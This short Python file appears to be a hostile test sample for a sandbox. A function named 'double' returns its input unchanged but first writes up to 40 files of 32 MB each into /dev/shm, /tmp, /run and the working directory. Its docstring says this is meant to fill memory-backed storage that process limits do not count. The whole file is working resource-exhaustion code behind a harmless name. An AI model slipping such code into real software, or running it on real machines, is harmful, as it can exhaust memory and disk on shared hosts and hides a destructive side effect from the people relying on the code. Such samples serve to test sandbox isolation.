"""Writes files where files are kept in memory, which no limit of the process counts."""
# bites: leftover
import os


def double(x):
    for folder in ("/dev/shm", "/tmp", "/run", "."):
        for number in range(40):
            try:
                with open(os.path.join(folder, f"hostile_block_{number}"), "wb") as file:
                    file.write(bytes(32 << 20))
            except OSError:
                break
    return x
